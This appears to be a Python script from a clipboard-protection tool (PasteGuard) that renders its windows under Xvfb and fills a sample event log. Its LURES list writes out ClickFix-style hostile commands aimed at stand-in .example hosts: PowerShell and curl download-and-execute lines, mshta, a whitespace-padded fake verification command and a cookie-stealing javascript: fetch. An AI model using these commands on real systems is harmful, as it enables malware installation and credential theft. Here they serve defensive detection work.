"""`make screenshots`: each window drawn on a private Xvfb into docs/screenshots/*.png.

The parent starts Xvfb and runs this module again inside it; the child builds a real GuardApp
over a temporary profile, lets a real verdict raise the warning, fills an event log with
sample lures, and saves each window as the person would see it.
"""

from __future__ import annotations

import os
import random
import select
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, cast

if TYPE_CHECKING:  # Qt is imported inside Xvfb only, by the child
    from PySide6.QtWidgets import QWidget

    from app.events import Event
    from ui.application import GuardApp
    from ui.settings import SettingsDialog
    from ui.viewer.window import ViewerWindow

CHILD = "PASTEGUARD_SCREENSHOTS_CHILD"
OUT = Path(__file__).resolve().parents[1] / "docs" / "screenshots"

# Lures as the research notes and the corpus show them (hosts are documentation domains).
LURES = [
    ('powershell -w h -c "iwr https://cdn-check.example/v.ps1 | iex"' + " " * 60
     + "# I am not a robot - Verification ID: 7537", "https://captcha-check.example/verify",
     "run_dialog"),
    ("mshta https://fix-error.example/captcha.hta # Cloudflare verification",
     "https://fix-error.example/", "run_dialog"),
    ('cmd /c "curl -s https://files.example/a.bat -o %TEMP%\\a.bat && %TEMP%\\a.bat"'
     + " " * 40 + "# C:\\company\\HR\\Policy.docx", "https://shared-docs.example/file",
     "explorer_bar"),
    ("curl -fsSL https://brew-fix.example/install.sh | zsh", "https://support-mac.example/",
     "terminal"),
    ("osascript -e 'do shell script \"curl -s https://x.example/p | sh\"'",
     "https://codecs.example/", "terminal"),
    ("javascript:fetch('https://grab.example/t?c='+document.cookie)",
     "https://free-nitro.example/", "browser_console"),
    ("curl -fsSL https://unknown-vendor.example/install.sh | sh",
     "https://unknown-vendor.example/docs", "terminal"),
    ("curl -fsSL https://bun.sh/install | bash", "https://bun.sh/", "terminal"),
]  # fmt: skip


def _start_xvfb(env: dict[str, str]) -> tuple[str, subprocess.Popen[bytes]]:
    """Xvfb on a display number it picks itself (-displayfd), so no other session collides."""
    read, write = os.pipe()
    server = subprocess.Popen(
        ["Xvfb", "-displayfd", str(write), "-screen", "0", "1600x1000x24", "-nolisten", "tcp"],
        pass_fds=(write,), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env,
    )  # fmt: skip
    os.close(write)
    answer = b""
    deadline = time.monotonic() + 15
    try:
        while not answer.endswith(b"\n") and time.monotonic() < deadline:
            ready, _, _ = select.select([read], [], [], max(0.0, deadline - time.monotonic()))
            chunk = os.read(read, 64) if ready else b""
            if not chunk:
                break
            answer += chunk
    finally:
        os.close(read)
    if not answer.strip().isdigit():
        server.terminate()
        raise SystemExit("screenshots: Xvfb did not start (is it installed? `make sysdeps`)")
    return f":{answer.strip().decode()}", server


LANGUAGES = ("de", "fr", "pt-BR")  # the warning in three languages, for the README


def _start_window_manager(env: dict[str, str]) -> subprocess.Popen[bytes]:
    """openbox, waited for: a real window manager moves and resizes windows as a desktop does
    (offscreen pictures hid a layout fault that only a window manager shows)."""
    wm = subprocess.Popen(["openbox", "--sm-disable"], env=env, stdout=subprocess.DEVNULL,
                          stderr=subprocess.DEVNULL)  # fmt: skip
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        probe = subprocess.run(["xprop", "-root", "_NET_SUPPORTING_WM_CHECK"], env=env,
                               capture_output=True, text=True)  # fmt: skip
        if "window id" in probe.stdout:
            return wm
        time.sleep(0.05)
    wm.terminate()
    raise SystemExit("screenshots: openbox did not start (is it installed? `make sysdeps`)")


def _profile_env(env: dict[str, str], tmp: str) -> dict[str, str]:
    return {
        **env, "QT_QPA_PLATFORM": "xcb", "PASTEGUARD_BACKEND": "none",
        "PASTEGUARD_DATA_DIR": f"{tmp}/data", "PASTEGUARD_CONFIG_DIR": f"{tmp}/config",
        "PASTEGUARD_POLICY": f"{tmp}/policy.toml", "XDG_CONFIG_HOME": f"{tmp}/xdg",
        "XDG_CONFIG_DIRS": f"{tmp}/xdg-system", "QT_SCALE_FACTOR": "1", "TZ": "UTC",
    }  # fmt: skip


def _warning_in(language: str, env: dict[str, str]) -> int:
    """The warning in `language`, checked by ui.layout_check, saved as warning-<language>.png."""
    import json
    import shutil

    with tempfile.TemporaryDirectory(prefix="pasteguard-shots-") as tmp:
        pictures = Path(tmp) / "pictures"
        pictures.mkdir()
        child = subprocess.run(
            [sys.executable, "-m", "ui.warning.states", language, f"{tmp}/states.json",
             str(pictures)], env=_profile_env(env, tmp),
        )  # fmt: skip
        if child.returncode:
            return child.returncode
        states = json.loads(Path(f"{tmp}/states.json").read_text(encoding="utf-8"))
        problems = states["clickfix"]["why"]["problems"]
        if problems:
            print(f"screenshots: the {language} warning is broken:", *problems, sep="\n  ")
            return 1
        target = OUT / f"warning-{language}.png"
        shutil.copyfile(pictures / f"warning-{language}-clickfix-why.png", target)
        print(f"screenshots: {target}")
    return 0


def main() -> int:
    if os.environ.get(CHILD):
        return render(OUT)
    env = {k: v for k, v in os.environ.items() if k not in ("WAYLAND_DISPLAY", "QT_QPA_PLATFORM")}
    display, server = _start_xvfb(env)
    env["DISPLAY"] = display
    wm = None
    try:
        wm = _start_window_manager(env)
        with tempfile.TemporaryDirectory(prefix="pasteguard-shots-") as tmp:
            child_env = {**_profile_env(env, tmp), CHILD: "1", "LANG": "en_GB.UTF-8"}
            status = subprocess.run([sys.executable, "-m", "ui.screenshots"], env=child_env)
        if status.returncode:
            return status.returncode
        OUT.mkdir(parents=True, exist_ok=True)
        for language in LANGUAGES:
            if _warning_in(language, env):
                return 1
        return 0
    finally:
        if wm is not None:
            wm.terminate()
            wm.wait(timeout=10)
        server.terminate()
        server.wait(timeout=10)


# -- the child, inside Xvfb ----------------------------------------------------------------


def render(out: Path) -> int:
    from PySide6.QtGui import QClipboard, QGuiApplication
    from PySide6.QtWidgets import QApplication

    out.mkdir(parents=True, exist_ok=True)
    qt = QApplication(sys.argv[:1])
    qt.setApplicationName("PasteGuard")
    qt.setQuitOnLastWindowClosed(False)
    data = Path(os.environ["PASTEGUARD_DATA_DIR"])
    policy = Path(os.environ["PASTEGUARD_POLICY"])
    # the organisation: warn mode (so the warning shows a malicious verdict), a locked list
    policy.write_text(
        'mode = "warn"\nreport_mail_to = "it-security@corp.example"\n'
        'trusted_installers = ["https://tools.corp.example/install.sh"]\n',
        encoding="utf-8",
    )
    fill_store(data)
    from app.platform.fallback import NullBackend
    from ui.application import GuardApp

    guard = GuardApp(qt, data, use_tray=True)
    # The keyboard hook is not started under Xvfb; the pictures show a guard whose hook runs
    # and swallows Ctrl+V, as on Windows.
    guard.backend = NullBackend("screenshots", {})
    guard.service.can_suppress_keys = True
    guard.tray.show()
    try:
        shots: dict[str, Callable[[], QWidget]] = {
            "warning": lambda: warning(guard),
            "warning-why": lambda: warning_why(guard),
            "viewer": lambda: viewer(guard),
            "settings": lambda: settings(guard),
            "learn": lambda: learn(guard),
            "status-window": lambda: status_window(guard),
            "tray-menu": lambda: tray_menu(guard),
        }
        for name, shoot in shots.items():
            widget = shoot()
            settle()
            widget.grab().save(str(out / f"{name}.png"))
            print(f"screenshots: {out / name}.png")
            widget.hide()
    finally:
        guard.stop()
        # the clipboard owns the QMimeData made here; freed after Python is gone, it crashes
        QGuiApplication.clipboard().clear(QClipboard.Mode.Clipboard)
    return 0


def settle(seconds: float = 0.3) -> None:
    """Let layouts, fonts and late resizes finish before the picture is taken."""
    from PySide6.QtWidgets import QApplication

    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        QApplication.processEvents()
        time.sleep(0.02)


def fill_store(data: Path) -> None:
    """Six weeks of events: lures blocked and warned, choices, starts, one remote-access tool."""
    from app.detection import Context, Engine, PasteTarget
    from app.events import Action, Event, EventKind
    from app.storage import EventStore

    engine = Engine()
    rng = random.Random(7)  # the same pictures every run
    now = datetime.now(UTC)
    events: list[Event] = []
    for day in range(42, -1, -1):
        when = now - timedelta(days=day, hours=rng.randint(0, 6))
        events.append(Event(kind=EventKind.STARTED.value, time=when, summary="PasteGuard started."))
        for _ in range(rng.choice((0, 1, 1, 2, 3, 5)) if day else 3):
            text, source, target = rng.choice(LURES)
            at = min(when + timedelta(minutes=rng.randint(5, 600)), now - timedelta(minutes=5))
            verdict = engine.analyze(text, Context(source=source))
            paste = engine.analyze(text, Context(source=source, target=PasteTarget(target)))
            if paste.level.label in ("clean", "info"):
                continue  # as the guard does: clean and info texts are never written anywhere
            kind = (
                EventKind.CLIPBOARD_NEUTRALIZED
                if verdict.level.label == "malicious"
                else EventKind.CLIPBOARD_FLAGGED
            )
            action = (
                Action.NEUTRALIZED if kind is EventKind.CLIPBOARD_NEUTRALIZED else Action.LOGGED
            )
            base = Event.from_verdict(kind.value, verdict, text, action.value)
            events.append(_at(base, at, target=None))
            if rng.random() < 0.6:
                events.append(_at(Event.from_verdict(EventKind.PASTE_BLOCKED.value, paste, text,
                                                     Action.BLOCKED.value),
                                  at + timedelta(seconds=20), target=target))  # fmt: skip
    events.append(Event(kind=EventKind.REMOTE_ACCESS_STARTED.value,
                        time=now - timedelta(days=3, hours=2),
                        summary="AnyDesk started (anydesk.exe).", level="suspicious"))  # fmt: skip
    events.sort(key=lambda e: e.time)
    with EventStore.open(data) as store:
        for event in events:
            store.append(event)


def _at(event: Event, when: datetime, target: str | None) -> Event:
    return replace(event, time=when, target=target or event.target)


def _trigger_warning(guard: GuardApp) -> QWidget:
    from PySide6.QtCore import QMimeData
    from PySide6.QtGui import QClipboard, QGuiApplication

    from app.platform.base import KeyEvent, WindowInfo

    text, source, _ = LURES[0]
    data = QMimeData()
    data.setText(text)
    data.setData("chromium/x-source-url", source.encode())
    QGuiApplication.clipboard().setMimeData(data, QClipboard.Mode.Clipboard)
    settle(0.2)
    service = guard.service
    service.process_pending()
    service.foreground = lambda: WindowInfo("explorer.exe", "#32770", "Run")
    now = time.monotonic()
    service.on_key(KeyEvent("ctrl", True, frozenset({"ctrl"}), now))
    service.on_key(KeyEvent("v", True, frozenset({"ctrl"}), now + 0.01))
    service.process_pending()
    settle()
    return guard.warning


def warning(guard: GuardApp) -> QWidget:
    return _trigger_warning(guard)


def warning_why(guard: GuardApp) -> QWidget:
    dialog = guard.warning
    if dialog.warning is not None:  # the same warning, brought back: no second paste logged
        dialog.present(dialog.warning)
    dialog.why.setChecked(True)
    dialog.understand.setChecked(True)
    return dialog


def viewer(guard: GuardApp) -> QWidget:
    guard.open_viewer()
    window = cast("ViewerWindow", guard.windows["viewer"])
    window.resize(1400, 860)
    settle()
    deadline = time.monotonic() + 10
    while window.stats_pending and time.monotonic() < deadline:  # count and chart: a thread's
        settle(0.05)
    model = window.model
    for row in range(model.rowCount()):
        event = model.event_at(row)
        if event is not None and event.kind == "clipboard_neutralized":
            window.table.selectRow(row)
            break
    return window


def settings(guard: GuardApp) -> QWidget:
    guard.open_settings()
    dialog = cast("SettingsDialog", guard.windows["settings"])
    dialog.sites.set_values(("docs.corp.example", "wiki.corp.example"))
    dialog.adjustSize()
    return dialog


def learn(guard: GuardApp) -> QWidget:
    guard.open_learn()
    return guard.windows["learn"]


def tray_menu(guard: GuardApp) -> QWidget:
    tray = guard.tray
    tray.attention = ""
    tray.refresh()
    menu = tray.menu
    menu.adjustSize()
    return menu


def status_window(guard: GuardApp) -> QWidget:
    window = guard.tray.window
    assert window is not None, "the tray makes its status window when it is shown"
    window.showNormal()
    return window


if __name__ == "__main__":
    sys.exit(main())
